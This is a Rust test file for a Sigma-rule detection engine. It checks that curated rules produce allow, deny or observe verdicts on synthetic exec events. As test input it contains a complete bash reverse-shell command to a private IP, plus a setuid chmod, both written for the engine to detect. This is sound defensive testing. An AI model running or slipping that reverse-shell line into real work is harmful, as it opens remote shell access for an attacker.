//! The bundled `sigma` engine in the real host, with the curated `rules/sigma` content:
//! content loads with no warnings, verdicts carry rule id, severity and tags, operator
//! blocking works through `init` config, and skipped rules come back as warnings.

use ringfence_bundled_engines as bundled;
use ringfence_engine_host::{EngineSettings, EngineWorker, LoadedEngine, Runtime};
use ringfence_protocol::{Action, Event, ExecEvent, Severity};
use std::path::Path;
use std::sync::Arc;
use std::time::Duration;

fn content() -> Vec<u8> {
    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../rules/sigma");
    ringfence_protocol::content::read_content(&dir).expect("rules/sigma reads")
}

fn exec(exe: &str, line: &str) -> Event {
    Event::Exec(ExecEvent {
        pid: 4242,
        ppid: 4000,
        uid: 1000,
        gid: 1000,
        exe: exe.to_owned(),
        argv: line.split(' ').map(str::to_owned).collect(),
        cwd: "/home/alice".to_owned(),
        parent_exe: "/usr/bin/bash".to_owned(),
        user: String::new(),
        group: String::new(),
        ancestors: Vec::new(),
    })
}

fn load(settings: EngineSettings, content: &[u8]) -> Arc<LoadedEngine> {
    let runtime = Runtime::new().expect("runtime");
    // Compiling rules is done once at load; give a loaded CI machine room.
    let settings = settings.with_deadline(Duration::from_millis(200));
    LoadedEngine::load(&runtime, settings, bundled::sigma(), content).expect("sigma loads")
}

#[test]
fn curated_rules_give_verdicts_in_the_real_host() {
    let engine = load(EngineSettings::new("sigma"), &content());
    let summary = engine.content_summary();
    assert!(summary.rules >= 10, "{summary:?}");
    assert!(summary.warnings.is_empty(), "{:?}", summary.warnings);
    let mut worker = EngineWorker::new(Arc::clone(&engine)).expect("instantiates");

    let quiet = worker.decide(&exec("/usr/bin/ls", "ls -la"));
    assert!(quiet.failure.is_none());
    assert_eq!(quiet.verdict.action, Action::Allow);

    let shell = worker.decide(&exec(
        "/usr/bin/bash",
        "bash -c bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
    ));
    assert!(shell.failure.is_none(), "{:?}", shell.failure);
    assert_eq!(shell.verdict.action, Action::Deny, "tagged ringfence.block");
    assert_eq!(
        shell.verdict.rule_id,
        "6c1f0a52-7d0e-4a8b-9f0c-2b1e5a0d7e01"
    );
    assert_eq!(shell.verdict.severity, Severity::Critical);
    assert!(shell.verdict.tags.iter().any(|t| t == "attack.t1059.004"));
    assert!(
        shell.verdict.message.starts_with("Reverse shell"),
        "{}",
        shell.verdict.message
    );

    let setuid = worker.decide(&exec("/usr/bin/chmod", "chmod u+s /tmp/x"));
    assert_eq!(setuid.verdict.action, Action::Observe);
    assert_eq!(setuid.verdict.severity, Severity::High);
    assert_eq!(worker.respawns(), 0);
}

#[test]
fn operator_config_blocks_by_tag() {
    let mut settings = EngineSettings::new("sigma");
    settings.config = vec![("sigma.block".to_owned(), "attack.t1548.001".to_owned())];
    let engine = load(settings, &content());
    let mut worker = EngineWorker::new(engine).expect("instantiates");
    let setuid = worker.decide(&exec("/usr/bin/chmod", "chmod u+s /tmp/x"));
    assert_eq!(setuid.verdict.action, Action::Deny);
}

#[test]
fn skipped_rules_are_warnings_and_the_rest_load() {
    let mut content = content();
    content.extend_from_slice(
        b"---\ntitle: bad\nid: bad-rule\nlogsource: {product: linux, category: process_creation}\n\
          detection:\n  s:\n    Image|frobnicate: x\n  condition: s\n",
    );
    let engine = load(EngineSettings::new("sigma"), &content);
    let warnings = &engine.content_summary().warnings;
    assert_eq!(warnings.len(), 1, "{warnings:?}");
    assert!(
        warnings[0].starts_with("bad-rule: unknown modifier `frobnicate`"),
        "{warnings:?}"
    );
}
